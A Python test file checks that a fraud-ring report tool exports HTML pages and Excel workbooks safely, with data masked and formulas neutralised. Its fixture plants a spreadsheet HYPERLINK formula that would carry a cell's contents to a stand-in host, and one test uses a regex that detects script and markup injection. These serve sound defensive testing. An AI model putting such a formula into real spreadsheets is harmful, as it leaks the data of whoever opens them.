"""What claims hold stays text: in a page, and in a workbook."""

from __future__ import annotations

import io
import re
from datetime import datetime
from pathlib import Path

import httpx
import openpyxl
import pytest
import tiny

from ringfinder.report.results import Results
from ringfinder_api.exporting import ring_page, ring_workbook

FORMULA = "=HYPERLINK('http://example.org/?'&A1;\"x\")"
CLAIMS = ("C1", "C2", "C3")


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, str]:
    """A run whose names are markup and formulas."""
    facilities = [{"facility_id": "F1", "name": FORMULA, "kind": "pharmacy"}, {"facility_id": "F2", "name": tiny.NASTY}]
    tables = tiny.TABLES | {"facilities": facilities}
    return tmp_path / "workspace", tiny.publish_run(tmp_path / "workspace", graph=True, tables=tables)


@pytest.mark.parametrize("ring_id", ["R;1", "R0"])
def test_page_holds_no_markup_of_the_claims_and_needs_nothing_from_elsewhere(
    hostile: tuple[Path, str], ring_id: str
) -> None:
    page = ring_page(*hostile, ring_id, CLAIMS, "zh").decode()
    assert "<script" not in page
    assert not re.search(r"<(link|img|iframe|object|form)\b|\bsrc=|href=\"?http|@import|url\(", page)
    assert [secret for secret in tiny.SECRETS if secret in page] == []
    assert ("未达到预警标准" in page) == (ring_id == "R0")


def test_workbook_holds_texts_and_no_formulas(hostile: tuple[Path, str]) -> None:
    book = openpyxl.load_workbook(io.BytesIO(ring_workbook(*hostile, "R;1", CLAIMS, "en")))
    assert book.sheetnames == ["members", "evidence", "claims", "about"]
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    formulas = [cell for cell in cells if str(cell.value).startswith(("=", "+", "-", "@"))]
    assert {cell.value for cell in formulas} == {FORMULA}
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in formulas)
    said = "\n".join(str(cell.value) for cell in cells)
    assert [secret for secret in tiny.SECRETS if secret in said] == []
    assert "****2222" in said
    claims = list(book["claims"].iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in claims] == ["C1", "C2", "C3"]
    assert claims[0][5] == datetime(2024, 3, 1, 9)


@pytest.mark.parametrize(
    ("lang", "members", "evidence", "claims", "care"),
    [
        (
            "en",
            ["what", "id (masked)", "name (masked)", "role", "strength", "claims"],
            ["Evidence", "what it speaks for", "observed", "by chance", "claims it rests on"],
            ["claim", "patient", "facility", "facility's name", "service", "begins", "ends"],
            "purchase",
        ),
        (
            "zh",
            ["对象类型", "编号（已遮盖）", "姓名或名称（已遮盖）", "角色", "把握", "费用笔数"],
            ["依据", "性质", "实际", "偶然预期", "相关费用记录"],
            ["费用记录编号", "参保人", "机构", "机构名称", "服务类型", "开始", "结束"],
            "购药",
        ),
    ],
)
def test_every_column_has_a_short_head_and_care_is_told_in_words(
    hostile: tuple[Path, str], lang: str, members: list[str], evidence: list[str], claims: list[str], care: str
) -> None:
    book = openpyxl.load_workbook(io.BytesIO(ring_workbook(*hostile, "R;1", CLAIMS, lang)))  # type: ignore[arg-type]
    assert [[cell.value for cell in sheet[1]] for sheet in book.worksheets[:3]] == [members, evidence, claims]
    assert {row[0] for row in book.worksheets[2].iter_rows(2, min_col=5, max_col=5, values_only=True)} == {care}


def test_exports_come_as_files_and_are_the_same_each_time(analyst: httpx.Client, results: Results) -> None:
    ring_id = results.rings[0].ring_id
    page = analyst.get(f"/v1/rings/{ring_id}/export.html", headers={"accept-language": "zh"})
    assert page.headers["content-type"] == "text/html; charset=utf-8"
    assert page.headers["content-disposition"] == 'attachment; filename="ring.html"'
    assert "sandbox" in page.headers["content-security-policy"]
    assert results.rings[0].reason_zh in page.text
    again = analyst.get(
        f"/v1/rings/{ring_id}/export.html", headers={"accept-language": "zh", "if-none-match": page.headers["etag"]}
    )
    assert again.status_code == 304
    book = openpyxl.load_workbook(io.BytesIO(analyst.get(f"/v1/rings/{ring_id}/export.xlsx").content))
    assert book["claims"].max_row == results.rings[0].claims + 1
    assert book["members"].max_row == len(results.members_of(ring_id)) + 1
